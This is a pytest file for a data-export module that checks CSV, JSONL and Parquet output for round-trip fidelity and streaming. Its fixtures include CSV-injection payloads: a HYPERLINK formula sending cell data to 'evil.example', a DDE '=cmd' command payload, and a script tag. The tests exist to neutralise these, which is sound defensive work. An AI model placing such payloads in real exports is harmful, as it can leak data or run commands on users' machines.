"""Exports parse back (csv module, json, pyarrow) with hostile text intact, formula cells quoted,
and every format streamed: the first piece leaves before the last row is read (issue 13)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta

import pyarrow.parquet as pq
import pytest

from storage.export import FIELDS, iter_csv, iter_jsonl, iter_parquet, write_parquet
from storage.query import MentionHit

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\tleading tab",
    "\rleading CR",
    "<script>alert('x')</script> سبزینو \u202eمعکوس\u202c",
    'quote " and, comma\nnew line',
    "سفارشم دیر رسید 😡",
]


def hit(n: int, text: str = "سبزینو", **extra: object) -> MentionHit:
    values: dict[str, object] = dict(
        id=n, source="x", external_id=f"e{n}", url=f"https://x.com/s/{n}", author_handle=f"user{n}",
        author_name="=cmd|' /C calc'!A0", author_followers=n * 10, text=text, lang="fa",
        created_at=datetime(2024, 11, 21, 5, tzinfo=UTC) + timedelta(minutes=n), brands=["sabzino", "tazeh"],
        sentiment_label="negative", sentiment_score=-0.8, aspects=["delivery"], urgency=0.5,
    )  # fmt: skip
    values.update(extra)
    return MentionHit(**values)  # type: ignore[arg-type]


def hostile_hits() -> list[MentionHit]:
    return [hit(i, text) for i, text in enumerate(HOSTILE, 1)] + [hit(99, "x", brands=["-minus"], url=None)]


def test_csv_parses_back_and_neutralises_formula_cells() -> None:
    hits = hostile_hits()
    rows = list(csv.DictReader(io.StringIO("".join(iter_csv(hits)))))
    assert list(rows[0]) == list(FIELDS) and len(rows) == len(hits)
    for row, h in zip(rows, hits, strict=True):
        expected = ("'" + h.text) if h.text[0] in "=+-@\t\r" else h.text
        assert row["text"] == expected  # the rest of the text, quotes and new lines included, intact
        assert row["author_name"] == "'=cmd|' /C calc'!A0"
        assert int(row["id"]) == h.id and row["created_at"] == h.created_at.isoformat()
    assert rows[-1]["brands"] == "'-minus" and rows[-1]["url"] == ""
    assert rows[0]["brands"] == "sabzino|tazeh"
    assert rows[0]["sentiment_score"] == "-0.8"  # a number is not text: left as it is
    # no cell a spreadsheet would evaluate
    for row in rows:
        for name, value in row.items():
            if name != "sentiment_score":
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)


def test_jsonl_parses_back_exactly() -> None:
    hits = hostile_hits()
    lines = "".join(iter_jsonl(hits)).splitlines()
    assert len(lines) == len(hits)
    records = [json.loads(line) for line in lines]
    for record, h in zip(records, hits, strict=True):
        assert list(record) == list(FIELDS)
        assert record["text"] == h.text and record["brands"] == h.brands  # JSON needs no quoting trick
        assert datetime.fromisoformat(record["created_at"]) == h.created_at


def test_parquet_parses_back_with_types(tmp_path) -> None:  # type: ignore[no-untyped-def]
    hits = hostile_hits()
    data = b"".join(iter_parquet(hits, batch_rows=4))
    table = pq.read_table(io.BytesIO(data))
    assert table.column_names == list(FIELDS) and table.num_rows == len(hits)
    assert pq.ParquetFile(io.BytesIO(data)).metadata.num_row_groups == 3  # 4 + 4 + 2
    rows = table.to_pylist()
    for row, h in zip(rows, hits, strict=True):
        assert row["text"] == h.text and row["brands"] == h.brands and row["created_at"] == h.created_at
        assert row["author_followers"] == h.author_followers
    # the file writer is the same stream
    assert write_parquet(hits, tmp_path / "out.parquet") == len(hits)
    assert pq.read_table(tmp_path / "out.parquet").to_pylist() == rows


def test_parquet_of_nothing_is_a_valid_empty_file() -> None:
    table = pq.read_table(io.BytesIO(b"".join(iter_parquet([]))))
    assert table.num_rows == 0 and table.column_names == list(FIELDS)


class Source:
    """Hits handed out one by one, counting how many were read."""

    def __init__(self, count: int) -> None:
        self.count, self.read = count, 0

    def __iter__(self) -> Iterator[MentionHit]:
        for n in range(self.count):
            self.read += 1
            yield hit(n, "متن " * 20)


@pytest.mark.parametrize(("fmt", "total"), [("csv", 3000), ("jsonl", 3000), ("parquet", 3000)])
def test_every_format_is_streamed(fmt: str, total: int) -> None:
    source = Source(total)
    if fmt == "csv":
        stream: Iterator[object] = iter_csv(source)
    elif fmt == "jsonl":
        stream = iter_jsonl(source)
    else:
        stream = iter_parquet(source, batch_rows=500)
    first = next(stream)
    assert first  # something to send already…
    assert source.read < total  # …before the whole result was read (nothing buffered whole)
    pieces = [first, *stream]
    assert source.read == total and len(pieces) > 2
